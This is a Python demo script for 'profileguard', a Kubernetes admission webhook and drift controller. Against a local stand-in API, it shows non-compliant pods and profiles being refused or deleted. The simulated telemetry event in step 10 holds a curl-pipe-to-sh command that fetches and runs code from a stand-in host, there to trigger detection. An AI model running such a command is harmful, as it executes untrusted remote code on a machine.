#!/usr/bin/env python3
"""The local end-to-end demo: the API stand-in, the webhook registered as a
ValidatingWebhookConfiguration, the controller, and what an admin sees: a
pod denied with its message, a drifted pod deleted, telemetry acted on, the
Events, the profile status and the metrics.  Python 3 standard library only;
every process runs on loopback and is stopped at the end.

With a kubectl on the PATH every "kubectl ..." step runs that kubectl against
the stand-in (a kubeconfig written for it, with its CA and token) and shows
its output as is.  Without one, a small client does the same requests and
prints what the API returned (its Tables for "get"): never a literal.

  hack/demo.py [--build DIR] [--keep] [--no-kubectl]   (hack/demo installs and builds first)
"""
import base64
import http.client
import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import re
import tempfile
import time
import urllib.parse

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BUILD = sys.argv[sys.argv.index("--build") + 1] if "--build" in sys.argv else os.path.join(ROOT, "build")
PG = os.path.join(BUILD, "src", "cmd", "profileguard")
KEEP = "--keep" in sys.argv
KUBECTL = None if "--no-kubectl" in sys.argv else shutil.which("kubectl")
procs = []


def say(title):
    print(f"\n\033[1m== {title}\033[0m" if sys.stdout.isatty() else f"\n== {title}", flush=True)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Api:
    """A tiny kubectl: JSON over TLS with a bearer token."""

    def __init__(self, port, ca, token):
        self.port, self.token = port, token
        self.ctx = ssl.create_default_context(cafile=ca)

    def call(self, method, path, body=None, ctype="application/json"):
        c = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=30)
        headers = {"Authorization": f"Bearer {self.token}", "Accept": "application/json"}
        if body is not None:
            headers["Content-Type"] = ctype
        c.request(method, path, body=json.dumps(body) if body is not None else None, headers=headers)
        r = c.getresponse()
        data = r.read()
        warnings = r.headers.get_all("Warning") or []
        c.close()
        return r.status, (json.loads(data) if data else None), warnings

    def apply(self, obj):
        kind = obj["kind"]
        ns = obj["metadata"].get("namespace", "default")
        path = {"Pod": f"/api/v1/namespaces/{ns}/pods",
                "WorkloadProfile": f"/apis/profileguard.io/v1alpha1/namespaces/{ns}/workloadprofiles",
                "Deployment": f"/apis/apps/v1/namespaces/{ns}/deployments",
                "ValidatingWebhookConfiguration": "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
                }[kind]
        return self.call("POST", path, obj)

    def table(self, path):
        """GET @path as kubectl does (a meta.k8s.io Table): the server's columns and cells."""
        c = http.client.HTTPSConnection("127.0.0.1", self.port, context=self.ctx, timeout=30)
        c.request("GET", path, headers={"Authorization": f"Bearer {self.token}",
                                        "Accept": "application/json;as=Table;v=v1;g=meta.k8s.io"})
        r = c.getresponse()
        data = json.loads(r.read() or b"null")
        c.close()
        return r.status, data


# What `kubectl apply -f` and `kubectl get` name a resource by, for the client without kubectl.
GROUP_OF = {"Pod": "", "WorkloadProfile": "profileguard.io", "Deployment": "apps",
            "ValidatingWebhookConfiguration": "admissionregistration.k8s.io"}


def print_table(table):
    """Prints a Table's priority-0 columns as kubectl does: upper-case headers, null as nothing."""
    cols = [i for i, c in enumerate(table["columnDefinitions"]) if c.get("priority", 0) == 0]
    rows = [[table["columnDefinitions"][i]["name"].upper() for i in cols]]
    for r in table.get("rows") or []:
        rows.append(["" if r["cells"][i] is None else str(r["cells"][i]) for i in cols])
    if len(rows) == 1:
        print("No resources found")
        return
    widths = [max(len(row[i]) for row in rows) for i in range(len(cols))]
    for row in rows:
        print("   ".join(v.ljust(w) for v, w in zip(row, widths)).rstrip())


class Ctl:
    """The "kubectl" steps: the real kubectl when there is one, else the small client."""

    def __init__(self, api, kubeconfig, tmp):
        self.api, self.kubeconfig, self.tmp = api, kubeconfig, tmp

    def kubectl(self, *args, show=True):
        shown = " ".join(os.path.relpath(a, ROOT) if a.startswith(ROOT + os.sep) else a for a in args)
        if show:
            print(f"$ kubectl {shown}", flush=True)
        r = subprocess.run([KUBECTL, "--kubeconfig", self.kubeconfig,
                            "--cache-dir", os.path.join(self.tmp, "kube-cache"), *args],
                           capture_output=True, text=True, timeout=60, cwd=self.tmp)
        out = (r.stdout + r.stderr).rstrip("\n")
        if show and out:
            print(out, flush=True)
        return r.returncode, out

    def apply(self, obj, filename):
        """kubectl apply -f FILE (the object written there as JSON, which is YAML)."""
        path = os.path.join(self.tmp, filename)
        with open(path, "w") as f:
            json.dump(obj, f, indent=2)
        if KUBECTL:
            return self.kubectl("apply", "-f", filename)[0] == 0
        print(f"# the demo's client, as: kubectl apply -f {filename}")
        code, body, warnings = self.api.apply(obj)
        for w in warnings:
            # 299 - "text", the text quoted with \" and \\ escaped, as kubectl unquotes it.
            m = re.match(r'^\d{3} \S+ "((?:[^"\\]|\\.)*)"', w)
            print("Warning: " + (re.sub(r"\\(.)", r"\1", m.group(1)) if m else w))
        if code >= 400:
            print(f"Error from server ({body.get('reason')}): {body.get('message')}")
            return False
        group = GROUP_OF[body["kind"]]
        print(f"{body['kind'].lower()}{'.' + group if group else ''}/{body['metadata']['name']} created")
        return True

    def get(self, resource, path, *args):
        """kubectl get RESOURCE ARGS...; the client asks @path for the server's Table."""
        if KUBECTL:
            return self.kubectl("get", resource, *args)[1]
        print(f"# the demo's client, as: kubectl get {resource} {' '.join(args)}".rstrip())
        status, table = self.api.table(path)
        if status != 200:
            print(f"Error from server ({table.get('reason')}): {table.get('message')}")
            return ""
        print_table(table)
        return table


def wait_for(what, fn, timeout=30.0):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            v = fn()
            if v:
                return v
        except (OSError, ValueError):
            pass
        time.sleep(0.2)
    raise SystemExit(f"demo: timed out waiting for {what}")


def start(name, args, log_dir):
    log = open(os.path.join(log_dir, name + ".log"), "w")
    p = subprocess.Popen(args, stdout=log, stderr=subprocess.STDOUT, cwd=ROOT)
    procs.append((name, p))
    return p


def stop_all():
    for _, p in reversed(procs):
        if p.poll() is None:
            p.send_signal(signal.SIGTERM)
    for _, p in reversed(procs):
        try:
            p.wait(timeout=15)
        except subprocess.TimeoutExpired:
            p.kill()


def pod(name, labels, containers, **spec):
    base = {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": "payments", "labels": labels},
            "spec": dict({"serviceAccountName": "payments-api", "automountServiceAccountToken": False,
                          "securityContext": {"runAsNonRoot": True, "runAsUser": 10001},
                          "containers": containers}, **spec)}
    return base


DIGEST = "@sha256:" + "9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a4f2a6c8e0b1d3f5a7c9e1b3d5f7a"
GOOD_CONTAINER = {"name": "api", "image": "registry.example.com/payments/api:2.14.3" + DIGEST,
                  "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}}

PROFILE = {
    "apiVersion": "profileguard.io/v1alpha1", "kind": "WorkloadProfile",
    "metadata": {"name": "payments-api", "namespace": "payments"},
    "spec": {
        "selector": {"matchLabels": {"app": "payments-api"}},
        "mode": "Enforce",
        "identity": {"serviceAccountNames": ["payments-api"], "maxTokenExpirationSeconds": 3600,
                     "extendedTokens": "Forbid", "legacyTokenSecrets": "Forbid"},
        "images": {"allow": ["registry.example.com/payments/*"], "requireDigest": True},
        "privileges": {"privileged": "Forbid", "privilegeEscalation": "Forbid", "hostNamespaces": "Forbid",
                       "runAsNonRoot": "Require", "allowedCapabilities": ["NET_BIND_SERVICE"]},
        "runtime": {"executables": ["/app/server", "/usr/bin/curl"],
                    "egress": [{"cidr": "10.0.0.0/8", "ports": [5432, 443]}]},
        "response": {"action": "Delete", "gracePeriodSeconds": 0},
    },
}


def webhook_configuration(base_url, bundle):
    """The ValidatingWebhookConfiguration the chart installs, as armed by the controller: the
    webhook at @base_url (https://HOST:PORT) for pods, the workload kinds' pod templates and
    WorkloadProfiles, trusted through @bundle (the CA, base64).  hack/sandbox uses it too."""
    return {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": "profileguard"},
            "webhooks": [{"name": "pods.profileguard.io", "sideEffects": "None", "admissionReviewVersions": ["v1"],
                          "failurePolicy": "Fail", "timeoutSeconds": 5,
                          "clientConfig": {"url": base_url + "/validate/pods", "caBundle": bundle},
                          "namespaceSelector": {"matchExpressions": [
                              {"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kube-system", "profileguard"]},
                              {"key": "profileguard.io/ignore", "operator": "NotIn", "values": ["true"]}]},
                          # The chart's rules: pods and the pod templates of the workload kinds.
                          "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": [""], "apiVersions": ["v1"],
                                     "resources": ["pods", "pods/ephemeralcontainers", "replicationcontrollers"]},
                                    {"operations": ["CREATE", "UPDATE"], "apiGroups": ["apps"], "apiVersions": ["v1"],
                                     "resources": ["deployments", "replicasets", "statefulsets", "daemonsets"]},
                                    {"operations": ["CREATE", "UPDATE"], "apiGroups": ["batch"], "apiVersions": ["v1"],
                                     "resources": ["jobs", "cronjobs"]}]},
                         {"name": "workloadprofiles.profileguard.io", "sideEffects": "None",
                          "admissionReviewVersions": ["v1"], "failurePolicy": "Fail", "timeoutSeconds": 5,
                          "clientConfig": {"url": base_url + "/validate/workloadprofiles", "caBundle": bundle},
                          "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": ["profileguard.io"],
                                     "apiVersions": ["v1alpha1"], "resources": ["workloadprofiles"]}]}]}


def main():
    if not os.access(PG, os.X_OK):
        raise SystemExit(f"demo: {PG} is not built (run hack/demo)")
    tmp = tempfile.mkdtemp(prefix="profileguard-demo-")
    try:
        run(tmp)
    finally:
        stop_all()
        if KEEP:
            print(f"\n(logs kept in {tmp})")
        else:
            shutil.rmtree(tmp, ignore_errors=True)


def run(tmp):
    certs = os.path.join(tmp, "certs")
    subprocess.run(["sh", os.path.join(ROOT, "tests", "standin", "gencerts.sh"), certs], check=True,
                   stdout=subprocess.DEVNULL)
    ca = os.path.join(certs, "ca.crt")
    api_port, hook_port, metrics_port, tel_port = free_port(), free_port(), free_port(), free_port()

    # The stand-in starts with namespaces, service accounts, and a pod that
    # was already running before any profile existed: it runs privileged.
    # In a cluster a pod's ServiceAccount exists before the pod starts (the
    # API server refuses the pod otherwise); here both are seeded at once, so
    # the pod's start is set just after, or the controller would rightly see
    # a ServiceAccount newer than the pod: ServiceAccountMissing.
    started = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 5))
    seed = {"items": [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "payments"}},
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "profileguard"}},
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "payments-api", "namespace": "payments"}},
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "default", "namespace": "payments"}},
        dict(pod("payments-api-legacy-worker", {"app": "payments-api"}, [
            dict(GOOD_CONTAINER, name="worker", securityContext={"privileged": True})]),
            status={"phase": "Running", "startTime": started, "podIP": "10.244.1.9",
                    "podIPs": [{"ip": "10.244.1.9"}]}),
    ]}
    for item in seed["items"]:
        if item["kind"] == "Pod":
            item["spec"]["nodeName"] = "node-a"
    with open(os.path.join(tmp, "seed.json"), "w") as f:
        json.dump(seed, f)
    tokens = {"admin-token": {"username": "admin", "groups": ["system:masters"]},
              "sender-token": {"username": "demo-telemetry-sender", "groups": ["system:authenticated"]}}
    with open(os.path.join(tmp, "tokens.json"), "w") as f:
        json.dump(tokens, f)
    kubeconfig = os.path.join(tmp, "kubeconfig")
    start("standin", [sys.executable, os.path.join(ROOT, "tests", "standin", "kube_standin.py"),
                      "--cert", os.path.join(certs, "server.crt"), "--key", os.path.join(certs, "server.key"),
                      "--tokens", os.path.join(tmp, "tokens.json"), "--seed", os.path.join(tmp, "seed.json"),
                      "--port", str(api_port), "--kubeconfig-out", kubeconfig, "--ca-for-kubeconfig", ca], tmp)
    api = Api(api_port, ca, "admin-token")
    wait_for("the API stand-in", lambda: api.call("GET", "/api/v1/namespaces")[0] == 200)
    ctl = Ctl(api, kubeconfig, tmp)
    say(f"1. API stand-in on https://127.0.0.1:{api_port} (TLS, bearer tokens; a pod already runs privileged)")
    if KUBECTL:
        print(f"kubectl: {KUBECTL}, with a kubeconfig for the stand-in (its CA, an admin token)")
        ctl.kubectl("version")
        # As on a cluster: the CRD first, which gives `get wp` its columns and apply its schema.
        ctl.kubectl("apply", "-f", os.path.join(ROOT, "crds", "workloadprofile.yaml"))
        ctl.kubectl("get", "crd", "workloadprofiles.profileguard.io")
    else:
        print("kubectl was not found on the PATH (hack/install-deps installs kubernetes-client):"
              " a small client makes the same requests and prints what the API returned")
        # The CRD, read with profileguard's own YAML reader (built with the tests).
        y2j = os.path.join(BUILD, "tests", "webhook", "yaml2json")
        if os.access(y2j, os.X_OK):
            crd = json.loads(subprocess.run([y2j, os.path.join(ROOT, "crds", "workloadprofile.yaml")],
                                            check=True, capture_output=True, text=True).stdout)
            print("# the demo's client, as: kubectl apply -f crds/workloadprofile.yaml")
            code, body, _ = api.call("POST", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", crd)
            print(f"customresourcedefinition.apiextensions.k8s.io/{body['metadata']['name']} created" if code == 201
                  else f"Error from server ({body.get('reason')}): {body.get('message')}")
            ctl.get("crd", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/workloadprofiles.profileguard.io",
                    "workloadprofiles.profileguard.io")
        else:
            print(f"(no {y2j} to read crds/workloadprofile.yaml with: the CRD is not installed)")

    start("webhook", [PG, "webhook", "--kubeconfig", kubeconfig, "--listen", f"127.0.0.1:{hook_port}",
                      "--tls-cert", os.path.join(certs, "server.crt"), "--tls-key", os.path.join(certs, "server.key"),
                      "--namespace", "profileguard", "--log-format", "text", "--shutdown-delay", "0"], tmp)
    hook_ctx = ssl.create_default_context(cafile=ca)

    def hook_ready():
        c = http.client.HTTPSConnection("127.0.0.1", hook_port, context=hook_ctx, timeout=2)
        c.request("GET", "/readyz")
        ok = c.getresponse().status == 200
        c.close()
        return ok
    wait_for("the webhook", hook_ready)
    with open(ca, "rb") as f:
        bundle = base64.b64encode(f.read()).decode()
    vwc = webhook_configuration(f"https://127.0.0.1:{hook_port}", bundle)
    say(f"2. profileguard webhook on https://127.0.0.1:{hook_port}, registered for pods, workload kinds and profiles")
    if not ctl.apply(vwc, "validatingwebhookconfiguration.json"):
        raise SystemExit("demo: the webhook could not be registered")

    ctl_args = [PG, "controller", "--kubeconfig", kubeconfig, "--namespace", "profileguard", "--leader-elect=false",
           "--metrics-addr", f"127.0.0.1:{metrics_port}", "--log-format", "text", "--identity", "demo-controller"]
    helptext = subprocess.run([PG, "help", "controller"], capture_output=True, text=True).stdout
    telemetry = "--telemetry-listen" in helptext
    if telemetry:
        ctl_args += ["--telemetry-listen", f"127.0.0.1:{tel_port}", "--telemetry-tls-cert", os.path.join(certs, "server.crt"),
                "--telemetry-tls-key", os.path.join(certs, "server.key"), "--telemetry-allowed-users", "demo-telemetry-sender"]
    start("controller", ctl_args, tmp)

    def metrics(path="/metrics"):
        c = http.client.HTTPConnection("127.0.0.1", metrics_port, timeout=2)
        c.request("GET", path)
        r = c.getresponse()
        body = r.read().decode()
        c.close()
        return r.status, body
    wait_for("the controller", lambda: metrics("/readyz")[0] == 200)
    say(f"3. profileguard controller (metrics on http://127.0.0.1:{metrics_port}/metrics"
        + (f", telemetry on https://127.0.0.1:{tel_port})" if telemetry else ")"))

    say("4. kubectl apply invalid WorkloadProfiles: refused by the CRD's schema, then by the webhook")
    bad = json.loads(json.dumps(PROFILE))
    bad["metadata"]["name"] = "typo"
    bad["spec"]["mode"] = "Enforcing"
    bad["spec"]["response"]["gracePeriodSeconds"] = -1
    ctl.apply(bad, "typo.json")
    bad = json.loads(json.dumps(PROFILE))
    bad["metadata"]["name"] = "typo"
    bad["spec"]["runtime"]["egress"][0]["cidr"] = "10.0.0.0/33"
    ctl.apply(bad, "typo-cidr.json")

    say("5. kubectl apply the payments-api WorkloadProfile (Enforce, action Delete)")
    if not ctl.apply(PROFILE, "payments-api.json"):
        raise SystemExit("demo: the profile was refused")

    say("6. kubectl apply a pod that breaks its profile: denied at admission, every violation named")
    evil = pod("payments-api-debug", {"app": "payments-api"}, [
        GOOD_CONTAINER, {"name": "debug", "image": "nginx:latest", "securityContext": {"privileged": True}}],
        serviceAccountName="default")
    ctl.apply(evil, "payments-api-debug.json")

    say("7. kubectl apply a Deployment whose pod template breaks the profile: refused at apply, not at scale-up")
    deploy = {"apiVersion": "apps/v1", "kind": "Deployment",
              "metadata": {"name": "payments-api-canary", "namespace": "payments"},
              "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "payments-api"}},
                       "template": {"metadata": {"labels": {"app": "payments-api"}},
                                    "spec": pod("x", {}, [dict(GOOD_CONTAINER, image="docker.io/library/nginx:1.27")])["spec"]}}}
    ctl.apply(deploy, "payments-api-canary.json")

    say("8. kubectl apply a compliant pod: admitted")
    good = pod("payments-api-7d9f-x2", {"app": "payments-api"}, [GOOD_CONTAINER])
    if not ctl.apply(good, "payments-api-7d9f-x2.json"):
        raise SystemExit("demo: the compliant pod was refused")
    # The kubelet would now run it: give it a node, an IP and a start time.
    api.call("PATCH", "/api/v1/namespaces/payments/pods/payments-api-7d9f-x2/status",
             {"status": {"phase": "Running", "startTime": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
                         "podIP": "10.244.1.7", "podIPs": [{"ip": "10.244.1.7"}],
                         "containerStatuses": [{"name": "api", "ready": True, "restartCount": 0, "image": GOOD_CONTAINER["image"],
                                                "state": {"running": {"startedAt": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}},
                                                "containerID": "containerd://" + "ab" * 32}]}},
             ctype="application/merge-patch+json")
    api.call("PATCH", "/api/v1/namespaces/payments/pods/payments-api-7d9f-x2",
             {"spec": {"nodeName": "node-a"}}, ctype="application/merge-patch+json")

    ctl.get("pods", "/api/v1/namespaces/payments/pods", "-n", "payments", "-o", "wide")

    say("9. the pod that ran before the profile existed has drifted: the controller deletes it")

    def deleted(name):
        _, reqs, _ = api.call("GET", "/_standin/requests?method=DELETE")
        for r in reqs or []:
            if r["path"].endswith("/pods/" + name):
                return r
        return None
    req = wait_for("the drifted pod's deletion", lambda: deleted("payments-api-legacy-worker"))
    pre = (req.get("body") or {}).get("preconditions", {})
    print(f"DELETE {req['path']}  (preconditions.uid={pre.get('uid', '?')}: a replacement pod is never hit)")

    if telemetry:
        say("10. telemetry: the compliant pod execs a shell it is not profiled for: deleted")
        event = {"kind": "exec", "time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()), "node": "node-a",
                 "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api",
                 "exe": "/bin/sh", "args": ["-c", "curl -s http://203.0.113.9/x | sh"]}
        ctx = ssl.create_default_context(cafile=ca)

        def send():
            c = http.client.HTTPSConnection("127.0.0.1", tel_port, context=ctx, timeout=5)
            c.request("POST", "/telemetry/v1/events", body=json.dumps(event) + "\n",
                      headers={"Authorization": "Bearer sender-token", "Content-Type": "application/x-ndjson"})
            r = c.getresponse()
            out = r.status, r.read().decode()
            c.close()
            return out
        status, reply = wait_for("the telemetry endpoint", lambda: (lambda s: s if s[0] == 200 else None)(send()))
        print(f"POST /telemetry/v1/events -> {status} {reply.strip()}")
        req = wait_for("the deletion", lambda: deleted("payments-api-7d9f-x2"))
        print(f"DELETE {req['path']}")
    else:
        say("10. telemetry endpoints are not in this build yet: skipped")

    say("11. kubectl get events -n payments (the controller's Events, reportingController profileguard.io/controller)")

    def our_events():
        _, lst, _ = api.call("GET", "/apis/events.k8s.io/v1/namespaces/payments/events")
        return [e for e in (lst or {}).get("items", []) if e.get("reportingController") == "profileguard.io/controller"]
    wait_for("the Events", lambda: len(our_events()) >= (2 if telemetry else 1) and our_events())
    ctl.get("events", "/api/v1/namespaces/payments/events", "-n", "payments")

    say("12. kubectl get wp -n payments (the columns of the CRD, from the profile's spec and status)")
    want = 2 if telemetry else 1

    def status():
        _, wp, _ = api.call("GET", "/apis/profileguard.io/v1alpha1/namespaces/payments/workloadprofiles/payments-api")
        st = wp.get("status") or {}
        return st if (st.get("violations") or 0) >= want else None
    st = wait_for("the profile status", status)
    ctl.get("wp", "/apis/profileguard.io/v1alpha1/namespaces/payments/workloadprofiles", "-n", "payments")
    lv = st.get("lastViolation") or {}
    print(f"status.lastViolation: {lv.get('reason')} on {lv.get('pod')}: {(lv.get('message') or '')[:120]}")

    say("13. curl /metrics | grep profileguard_ (controller)")
    _, body = metrics()
    for line in body.splitlines():
        if line.startswith(("profileguard_drift_findings_total", "profileguard_actions_total", "profileguard_profiles ",
                            "profileguard_leader ", "profileguard_telemetry_events_total")) and not line.endswith(" 0"):
            print(line)
    print("\ndemo: done")


if __name__ == "__main__":
    main()
